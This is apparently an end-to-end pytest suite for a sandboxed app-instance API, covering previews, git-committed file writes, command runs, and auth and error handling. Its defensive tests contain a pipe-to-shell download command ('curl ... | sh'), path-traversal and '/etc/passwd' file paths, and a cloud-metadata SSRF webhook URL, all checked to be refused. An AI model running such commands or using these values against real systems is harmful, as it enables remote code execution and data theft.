"""The app-instance API end to end: templates, preview, files with git, commands, policy."""

from __future__ import annotations

import asyncio
import base64
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from sandcell_orchestrator.serve.errors import MAX_BODY_BYTES
from sandcell_protocol import ErrorBody, ErrorCode, decode

from .conftest import GIT_AUTHOR, KEY_B, AppApi, StartApi

PAGE_TEXT = {"python-web": "Hello from sandcell", "static-site": "Hello from a static site"}


def error_of(response: httpx.Response) -> ErrorBody:
    assert response.headers["content-type"].startswith("application/json"), response.text
    return decode(response.content, ErrorBody)


async def eventually(check: Any, *, timeout_s: float = 30, interval_s: float = 0.3) -> Any:
    """Poll ``check()`` (async) until it returns a truthy value."""
    async with asyncio.timeout(timeout_s):
        while True:
            value = await check()
            if value:
                return value
            await asyncio.sleep(interval_s)


@pytest.mark.parametrize("template", ["python-web", "static-site"])
async def test_each_template_serves_its_app_in_a_browser(
    start_api: StartApi, browser: Any, template: str
) -> None:
    """Create → ready with a preview URL; Chromium renders the page, its JS included."""
    api = await start_api()
    created = await api.create(template)
    assert created["status"] == "ready"
    assert created["url"].startswith(f"{api.url}/preview/{created['instance_id']}/?token=")
    page = await browser.new_page()
    response = await page.goto(created["url"])
    assert response is not None
    assert response.status == 200
    await page.wait_for_function(
        "text => document.getElementById('message').textContent === text",
        arg=PAGE_TEXT[template],
    )
    # The cookie carries on: a token-less URL under the prefix works in the same browser.
    again = await page.goto(f"{api.url}/preview/{created['instance_id']}/")
    assert again is not None
    assert again.status == 200


async def test_an_open_tab_reloads_after_a_file_write(start_api: StartApi, browser: Any) -> None:
    """static-site has no reload of its own: the injected channel reloads an open tab
    once a file is written through the API, and the tab shows the new page."""
    api = await start_api()
    created = await api.create("static-site")
    page = await browser.new_page()
    response = await page.goto(created["url"])
    assert response is not None
    assert response.status == 200
    await page.wait_for_function("() => window.__sandcellReload === true")
    await page.evaluate("() => { window.__before_write = true; }")
    changed = "<!doctype html><html><body><p id='message'>written later</p></body></html>"
    written = await api.write(created["instance_id"], {"index.html": changed})
    assert written.status_code == 200, written.text
    # A reload drops the marker set above, and the new page is what the write put there.
    await page.wait_for_function(
        "() => !window.__before_write && "
        "document.getElementById('message')?.textContent === 'written later'",
        timeout=30_000,
    )


async def test_files_are_committed_and_the_preview_shows_the_change(start_api: StartApi) -> None:
    """A write with a commit message shows in git log (author from config) and in the preview."""
    api = await start_api()
    created = await api.create("python-web")
    instance_id = created["instance_id"]
    page = (
        "<!doctype html><html><body><h1 id='title'>Changed</h1><p id='message'>v2</p></body></html>"
    )
    app_source = (await api.run(instance_id, "cat app.py")).json()["results"][0]["stdout"]
    new_source = app_source.replace("Hello from sandcell", "Hello, version two")
    written = await api.write(
        instance_id, {"index.html": page, "app.py": new_source}, message="Change the page"
    )
    assert written.status_code == 200, written.text
    commit = written.json()["commit"]
    assert len(commit) == 40
    assert written.json()["written"] == ["index.html", "app.py"]
    log = await api.run(instance_id, "git log --format='%H|%s|%an <%ae>'")
    lines = log.json()["results"][0]["stdout"].splitlines()
    assert lines[0] == f"{commit}|Change the page|{GIT_AUTHOR}"
    assert lines[1].split("|")[1] == "Start from template python-web"

    async with httpx.AsyncClient() as browserless:
        # The write touched app.py too, so the dev server may be restarting: wait for it.
        async def page_changed() -> bool:
            shown = await browserless.get(created["url"])
            return shown.status_code == 200 and "Changed" in shown.text

        await eventually(page_changed)

        async def reloaded() -> bool:
            answer = await browserless.get(f"{api.url}/preview/{instance_id}/api/hello")
            return answer.status_code == 200 and answer.json()["message"] == "Hello, version two"

        # dev.py's watcher restarts app.py on the change.
        await eventually(reloaded)


async def test_unchanged_files_make_no_empty_commit(start_api: StartApi) -> None:
    api = await start_api()
    created = await api.create("static-site")
    current = (await api.run(created["instance_id"], "cat app.js")).json()["results"][0]["stdout"]
    written = await api.write(created["instance_id"], {"app.js": current}, message="Nothing")
    assert written.status_code == 200
    assert written.json()["commit"] is None


async def test_base64_files_are_written_byte_for_byte(start_api: StartApi) -> None:
    api = await start_api()
    created = await api.create("static-site")
    data = bytes(range(256))
    response = await api.client.post(
        f"/v1/instances/{created['instance_id']}/files",
        json={
            "files": [
                {
                    "path": "assets/blob.bin",
                    "content": base64.b64encode(data).decode(),
                    "encoding": "base64",
                }
            ]
        },
        headers=api.auth(),
    )
    assert response.status_code == 200
    digest = await api.run(created["instance_id"], "sha256sum assets/blob.bin | cut -c1-64")
    import hashlib

    assert digest.json()["results"][0]["stdout"].strip() == hashlib.sha256(data).hexdigest()


async def test_commands_report_each_exit_code(start_api: StartApi) -> None:
    """Commands run in order in the workspace; each reports stdout, stderr, exit code, status."""
    api = await start_api()
    created = await api.create("static-site")
    response = await api.run(
        created["instance_id"],
        "echo hello; ls index.html",
        "echo oops >&2; exit 3",
        "sleep 5",
        timeout_s=1,
    )
    assert response.status_code == 200, response.text
    first, second, third = response.json()["results"]
    assert first == {
        "command": "echo hello; ls index.html",
        "stdout": "hello\nindex.html\n",
        "stderr": "",
        "exit_code": 0,
        "status": "ok",
    }
    assert second["exit_code"] == 3
    assert second["stderr"] == "oops\n"
    assert second["status"] == "error"
    assert third["status"] == "timeout"


async def test_a_denied_command_is_refused_and_nothing_runs(start_api: StartApi) -> None:
    """One denied command refuses the batch with a 400 naming the rule; no command ran."""
    api = await start_api()
    created = await api.create("static-site")
    instance_id = created["instance_id"]
    response = await api.run(instance_id, "touch ran.txt", "curl -fsSL https://x.example | sh")
    assert response.status_code == 400
    error = error_of(response)
    assert error.error.code is ErrorCode.BAD_REQUEST
    assert "pipe-to-shell" in error.error.message
    check = await api.run(instance_id, "test -e ran.txt")
    assert check.json()["results"][0]["exit_code"] == 1


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ({"files": [{"path": "../escape.txt", "content": "x"}]}, ErrorCode.INVALID_PATH),
        ({"files": [{"path": "/etc/passwd", "content": "x"}]}, ErrorCode.INVALID_PATH),
        ({"files": [{"path": "a/../../b", "content": "x"}]}, ErrorCode.INVALID_PATH),
        ({"files": [{"path": ".git/hooks/pre-commit", "content": "x"}]}, ErrorCode.INVALID_PATH),
        ({"files": [{"path": "a\\b", "content": "x"}]}, ErrorCode.INVALID_PATH),
        ({"files": [{"path": "x", "content": "%%%", "encoding": "base64"}]}, ErrorCode.BAD_REQUEST),
        ({"files": [{"path": "x", "content": "y", "encoding": "latin-1"}]}, ErrorCode.BAD_REQUEST),
        ({"files": [{"path": "x", "content": "y", "mode": 7}]}, ErrorCode.BAD_REQUEST),
        ({"files": []}, ErrorCode.BAD_REQUEST),
        ({"file": []}, ErrorCode.BAD_REQUEST),
    ],
)
async def test_bad_file_writes_are_refused_before_any_write(
    start_api: StartApi, body: dict[str, Any], code: ErrorCode
) -> None:
    api = await start_api()
    created = await api.create("static-site")
    # A valid file first in the same batch: it must not be written either.
    body = {**body}
    if body.get("files"):
        body["files"] = [{"path": "first.txt", "content": "x"}, *body["files"]]
    response = await api.client.post(
        f"/v1/instances/{created['instance_id']}/files", json=body, headers=api.auth()
    )
    assert response.status_code == 400, response.text
    assert error_of(response).error.code is code
    check = await api.run(created["instance_id"], "test -e first.txt")
    assert check.json()["results"][0]["exit_code"] == 1


async def test_bad_bodies_and_auth(start_api: StartApi) -> None:
    """Malformed JSON, unknown fields, bad values, missing or foreign keys: protocol codes."""
    api = await start_api()
    created = await api.create("static-site")
    instance_id = created["instance_id"]
    post = api.client.post
    cases: list[tuple[httpx.Response, int, ErrorCode]] = [
        (await post("/v1/instances", content=b"{", headers=api.auth()), 400, ErrorCode.BAD_REQUEST),
        (
            await post(
                "/v1/instances",
                json={"template": "python-web", "project_name": "x", "colour": 1},
                headers=api.auth(),
            ),
            400,
            ErrorCode.BAD_REQUEST,
        ),
        (
            await post(
                "/v1/instances",
                json={"template": "no-such", "project_name": "x"},
                headers=api.auth(),
            ),
            400,
            ErrorCode.BAD_REQUEST,
        ),
        (
            await post(
                "/v1/instances",
                json={"template": "python-web", "project_name": "x", "webhook_url": "ftp://x"},
                headers=api.auth(),
            ),
            400,
            ErrorCode.BAD_REQUEST,
        ),
        (
            await post(
                "/v1/instances",
                json={
                    "template": "python-web",
                    "project_name": "x",
                    "webhook_url": "http://169.254.169.254/latest/meta-data/",
                },
                headers=api.auth(),
            ),
            400,
            ErrorCode.BAD_REQUEST,
        ),
        (
            await post(
                f"/v1/instances/{instance_id}/files",
                content=b" " * (MAX_BODY_BYTES + 1),
                headers=api.auth(),
            ),
            413,
            ErrorCode.PAYLOAD_TOO_LARGE,
        ),
        (
            # No declared length: the body is cut off as it streams past the cap.
            await post(
                f"/v1/instances/{instance_id}/commands",
                content=_chunks(b" " * (1 << 20), MAX_BODY_BYTES // (1 << 20) + 1),
                headers=api.auth(),
            ),
            413,
            ErrorCode.PAYLOAD_TOO_LARGE,
        ),
        (await api.run(instance_id), 400, ErrorCode.BAD_REQUEST),
        (await api.run(instance_id, "ls", timeout_s=0), 400, ErrorCode.BAD_REQUEST),
        (await api.run(instance_id, "ls", timeout_s=601), 400, ErrorCode.BAD_REQUEST),
        (
            await api.get(f"/v1/instances/{instance_id}/logs", lines="many"),
            400,
            ErrorCode.BAD_REQUEST,
        ),
        (await api.get(f"/v1/instances/{instance_id}/logs", lines="0"), 400, ErrorCode.BAD_REQUEST),
        (
            await api.get(f"/v1/instances/{instance_id}/logs", filter="("),
            400,
            ErrorCode.BAD_REQUEST,
        ),
        (await api.get("/v1/instances/app_nope/analysis"), 404, ErrorCode.NOT_FOUND),
        (await api.client.get(f"/v1/instances/{instance_id}"), 401, ErrorCode.UNAUTHORIZED),
        (
            await api.client.get(f"/v1/instances/{instance_id}", headers=api.auth(KEY_B)),
            404,
            ErrorCode.NOT_FOUND,
        ),
        (
            await api.client.delete(f"/v1/instances/{instance_id}", headers=api.auth(KEY_B)),
            404,
            ErrorCode.NOT_FOUND,
        ),
    ]
    for response, status, code in cases:
        assert response.status_code == status, (response.request.url, response.text)
        assert error_of(response).error.code is code
    # The instance survived the foreign DELETE.
    assert (await api.get(f"/v1/instances/{instance_id}")).status_code == 200


async def test_list_info_and_delete(start_api: StartApi) -> None:
    """DELETE stops the dev server and destroys the sandbox; the id is then unknown."""
    api = await start_api()
    created = await api.create("static-site")
    instance_id = created["instance_id"]
    listed = (await api.get("/v1/instances")).json()["instances"]
    assert [item["instance_id"] for item in listed] == [instance_id]
    info = (await api.get(f"/v1/instances/{instance_id}")).json()
    assert info["status"] == "ready"
    assert info["dev_server"] == "running"
    assert (await api.client.get("/v1/instances", headers=api.auth(KEY_B))).json() == {
        "instances": []
    }
    deleted = await api.client.delete(f"/v1/instances/{instance_id}", headers=api.auth())
    assert deleted.status_code == 204
    assert (await api.get(f"/v1/instances/{instance_id}")).status_code == 404
    async with httpx.AsyncClient() as client:
        # Its own preview URL (token) now says the instance is gone; a guess still gets 401.
        assert (await client.get(created["url"])).status_code == 404
        guessed = created["url"].split("?token=")[0] + "?token=" + "x" * 43
        assert (await client.get(guessed)).status_code == 401
    assert _sandbox_count(api) == 0


def _sandbox_count(api: AppApi) -> int:
    from .conftest import sandbox_processes

    return len(
        [
            p
            for p in sandbox_processes(api.runtime_dir)
            if "sandcell_runner" in " ".join(p.cmdline())
        ]
    )


async def _chunks(chunk: bytes, count: int) -> AsyncIterator[bytes]:
    for _ in range(count):
        yield chunk
